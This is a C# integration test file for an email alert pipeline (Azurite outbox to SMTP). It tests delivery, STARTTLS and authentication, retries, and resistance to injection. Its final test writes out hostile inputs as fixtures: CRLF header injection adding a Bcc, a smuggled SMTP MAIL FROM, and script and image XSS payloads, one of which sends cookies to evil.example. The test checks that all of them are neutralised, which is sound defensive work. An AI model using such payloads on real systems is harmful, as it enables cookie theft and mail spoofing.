using Microsoft.Extensions.DependencyInjection;
using NewsWatch.Alerts;
using NewsWatch.Testing.Alerts;
using NewsWatch.Testing.Azurite;
using NewsWatch.Testing.Smtp;
using NewsWatch.Testing.Time;

namespace NewsWatch.Integration.Tests.Alerts;

/// <summary>Alerts through the real path: Table outbox on Azurite → System.Net.Mail → a real SMTP server on loopback.</summary>
[Collection(AzuriteCollection.Name)]
public sealed class SmtpAlertDeliveryTests(AzuriteFixture azurite)
{
    [Fact]
    public async Task A_granted_approval_arrives_once_with_the_promised_headers_and_both_bodies()
    {
        await using var sink = await SmtpSink.StartAsync();
        var time = new ManualTimeProvider();
        await using var sp = AlertTestHost.Build(azurite, AlertTestHost.NewTable(), time, AlertTestHost.SmtpSettings(sink));
        var alerts = AlertsUnderTest.From(sp);

        await alerts.RecordAsync([AlertTestHost.Notice(1), AlertTestHost.Notice(2)], CancellationToken.None);
        var report = await alerts.DeliverPendingAsync(CancellationToken.None);

        Assert.Equal((1, 0, 0), (report.Sent, report.Failed, report.Pending));
        Assert.Null(report.PickupDirectory);
        var mail = Assert.Single(await sink.WaitForMessagesAsync(1));
        var stored = Assert.Single(await AlertTestHost.AllAsync(sp));

        Assert.Equal("alerts@newswatch.example", mail.MailFrom);
        Assert.Equal(AlertTestHost.Recipients, mail.RcptTo);
        Assert.Equal("Xiaomi EV: NDRC approval granted (reported)", mail.Header("Subject"));
        Assert.Contains("alerts@newswatch.example", mail.Header("From"), StringComparison.Ordinal);
        Assert.Contains("ev-team@example.com", mail.Header("To"), StringComparison.Ordinal);
        Assert.Contains("cfo@example.com", mail.Header("To"), StringComparison.Ordinal);
        Assert.Equal($"<newswatch.alert.{stored.Id}@newswatch.example>", mail.Header("Message-ID"));
        Assert.Equal("xiaomi-ev|NDRC|production-approval|granted", mail.Header("X-NewsWatch-Alert-Key"));
        Assert.Equal(stored.Id, mail.Header("X-NewsWatch-Alert-Id"));
        Assert.Equal("auto-generated", mail.Header("Auto-Submitted"));
        Assert.StartsWith("multipart/alternative", mail.Header("Content-Type"), StringComparison.Ordinal);

        Assert.Equal(["text/plain", "text/html"], mail.Parts.Select(p => p.MediaType));
        foreach (var body in new[] { mail.Text!, mail.Html! })
        {
            Assert.Contains("National Development and Reform Commission (NDRC) to produce electric vehicles", body, StringComparison.Ordinal);
            Assert.Contains("https://outlet1.example/news/xiaomi-ndrc-approval", body, StringComparison.Ordinal);
            Assert.Contains("https://outlet2.example/news/xiaomi-ndrc-approval", body, StringComparison.Ordinal);
            Assert.Contains("Outlet 2, published 2023-08-23 08:30 UTC, seen 2023-08-23 09:02 UTC", body, StringComparison.Ordinal);
            Assert.Contains("2023-08-23 09:01 UTC", body, StringComparison.Ordinal);
        }

        Assert.Equal(AlertDeliveryState.Sent, stored.State);
        Assert.Equal(time.GetUtcNow(), stored.SentAt);
        // The server's own final reply, as MailKit returns it, and where it was sent.
        Assert.Matches(@"^\S.* \(by 127\.0\.0\.1:\d+\)$", stored.DeliveryReply);

        await alerts.DeliverPendingAsync(CancellationToken.None);
        Assert.Single(sink.Messages);
    }

    [Fact]
    public async Task Starttls_and_auth_are_used_and_a_wrong_password_keeps_the_alert_pending_without_leaking_it()
    {
        await using var sink = await SmtpSink.StartAsync(new SmtpSinkOptions { StartTls = true, UserName = "acs-user", Password = "s3cret-Pa55" });
        var time = new ManualTimeProvider();
        var table = AlertTestHost.NewTable();

        await using (var wrong = AlertTestHost.Build(azurite, table, time, AlertTestHost.SmtpSettings(sink, ssl: true, "acs-user", "not-the-Pa55word")))
        {
            var alerts = AlertsUnderTest.From(wrong);
            await alerts.RecordAsync([AlertTestHost.Notice(1)], CancellationToken.None);
            var refused = await alerts.DeliverPendingAsync(CancellationToken.None);

            var pending = Assert.Single(await AlertTestHost.AllAsync(wrong));
            Assert.Equal((0, 1), (refused.Sent, refused.Failed));
            Assert.Equal(AlertDeliveryState.Pending, pending.State);
            Assert.NotNull(pending.LastError);
            Assert.DoesNotContain("not-the-Pa55word", pending.LastError, StringComparison.Ordinal);
            Assert.Empty(sink.Messages);
            Assert.Contains(sink.Events, e => (string?)e["event"] == "auth" && (bool?)e["ok"] == false && (bool?)e["secure"] == true);
        }

        time.Advance(TimeSpan.FromMinutes(1));
        await using var right = AlertTestHost.Build(azurite, table, time, AlertTestHost.SmtpSettings(sink, ssl: true, "acs-user", "s3cret-Pa55"));
        var report = await right.GetRequiredService<IAlertDelivery>().DeliverPendingAsync(CancellationToken.None);

        var mail = Assert.Single(await sink.WaitForMessagesAsync(1));
        Assert.Equal(1, report.Sent);
        Assert.True(mail.Secure, "the message must travel after STARTTLS");
        Assert.Equal("acs-user", mail.AuthenticatedUser);
        Assert.Contains("over STARTTLS, authenticated)", Assert.Single(await AlertTestHost.AllAsync(right)).DeliveryReply, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Smtp_down_on_the_first_attempt_gives_exactly_one_delivery_after_it_comes_back()
    {
        await using var sink = await SmtpSink.StartAsync();
        var time = new ManualTimeProvider();
        await using var sp = AlertTestHost.Build(azurite, AlertTestHost.NewTable(), time, AlertTestHost.SmtpSettings(sink));
        var alerts = AlertsUnderTest.From(sp);
        await alerts.RecordAsync([AlertTestHost.Notice(1)], CancellationToken.None);

        await sink.StopAsync();
        var down = await alerts.DeliverPendingAsync(CancellationToken.None);
        var afterFailure = Assert.Single(await AlertTestHost.AllAsync(sp));

        Assert.Equal((0, 1, 1), (down.Sent, down.Failed, down.Pending));
        Assert.Equal((AlertDeliveryState.Pending, 1), (afterFailure.State, afterFailure.Attempts));
        Assert.Equal(time.GetUtcNow().AddMinutes(1), afterFailure.NextAttemptAt);
        Assert.False(string.IsNullOrEmpty(afterFailure.LastError));

        // The server is back, but the retry waits for its time; a sweep in between sends nothing.
        await sink.StartAsync();
        Assert.Equal(0, (await alerts.DeliverPendingAsync(CancellationToken.None)).Sent);

        time.Advance(TimeSpan.FromMinutes(1));
        var back = await alerts.DeliverPendingAsync(CancellationToken.None);
        time.Advance(TimeSpan.FromHours(1));
        await alerts.DeliverPendingAsync(CancellationToken.None);

        Assert.Equal(1, back.Sent);
        Assert.Single(await sink.WaitForMessagesAsync(1));
        var sent = Assert.Single(await AlertTestHost.AllAsync(sp));
        Assert.Equal((AlertDeliveryState.Sent, 2), (sent.State, sent.Attempts));
    }

    [Fact]
    public async Task A_server_that_refuses_with_451_is_recorded_with_its_reply_and_retried_with_growing_waits()
    {
        await using var sink = await SmtpSink.StartAsync();
        var time = new ManualTimeProvider();
        await using var sp = AlertTestHost.Build(azurite, AlertTestHost.NewTable(), time, AlertTestHost.SmtpSettings(sink));
        var alerts = AlertsUnderTest.From(sp);
        await alerts.RecordAsync([AlertTestHost.Notice(1)], CancellationToken.None);
        await sink.RefuseNextAsync(2, 451);

        await alerts.DeliverPendingAsync(CancellationToken.None);
        var first = Assert.Single(await AlertTestHost.AllAsync(sp));
        time.Advance(TimeSpan.FromMinutes(1));
        await alerts.DeliverPendingAsync(CancellationToken.None);
        var second = Assert.Single(await AlertTestHost.AllAsync(sp));
        time.Advance(TimeSpan.FromMinutes(2));
        await alerts.DeliverPendingAsync(CancellationToken.None);

        Assert.Contains("Try again later", first.LastError, StringComparison.Ordinal);
        Assert.Equal(TimeSpan.FromMinutes(1), first.NextAttemptAt - first.LastAttemptAt);
        Assert.Equal(TimeSpan.FromMinutes(2), second.NextAttemptAt - second.LastAttemptAt);
        Assert.Single(await sink.WaitForMessagesAsync(1));
        Assert.Equal(2, sink.Events.Count(e => (string?)e["event"] == "rejected"));
        Assert.Equal(AlertDeliveryState.Sent, Assert.Single(await AlertTestHost.AllAsync(sp)).State);
    }

    [Fact]
    public async Task Malicious_article_text_cannot_alter_headers_recipients_or_markup()
    {
        await using var sink = await SmtpSink.StartAsync();
        await using var sp = AlertTestHost.Build(azurite, AlertTestHost.NewTable(), new ManualTimeProvider(), AlertTestHost.SmtpSettings(sink));
        var alerts = AlertsUnderTest.From(sp);
        var evil = AlertTestHost.Notice(1) with
        {
            Subject = "Xiaomi EV\r\nBcc: attacker@evil.example\r\nX-Injected: 1",
            Regulator = "NDRC\r\n\r\n<html>forged body",
            ArticleTitle = "</a><script>document.location='https://evil.example/'+document.cookie</script>\r\nContent-Type: text/html",
            Outlet = "<img src=https://evil.example/track.gif onerror=alert(1)>",
            Evidence = "Approved.\r\n.\r\nMAIL FROM:<attacker@evil.example>\r\n<iframe src=https://evil.example>",
        };

        await alerts.RecordAsync([evil], CancellationToken.None);
        await alerts.DeliverPendingAsync(CancellationToken.None);
        var mail = Assert.Single(await sink.WaitForMessagesAsync(1));

        Assert.Equal(AlertTestHost.Recipients, mail.RcptTo);
        Assert.Empty(mail.RawHeaders("Bcc"));
        Assert.Empty(mail.RawHeaders("X-Injected"));
        Assert.Single(mail.RawHeaders("Subject"));
        Assert.Single(mail.RawHeaders("Content-Type"));
        Assert.Equal("Xiaomi EV Bcc: attacker@evil.example X-Injected: 1: NDRC <html>forged body approval granted (reported)", mail.Header("Subject"));
        Assert.Equal("alerts@newswatch.example", mail.MailFrom);
        Assert.Equal(2, mail.Parts.Count);

        var html = mail.Html!;
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(1, html.Split("</a>").Length - 1); // the template's one link; the title's "</a>" is text
        Assert.Contains("&lt;/a&gt;&lt;script&gt;", html, StringComparison.Ordinal);
        Assert.Contains("&lt;img src=https://evil.example/track.gif onerror=alert(1)&gt;", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\nMAIL FROM", mail.Text, StringComparison.Ordinal);
    }
}
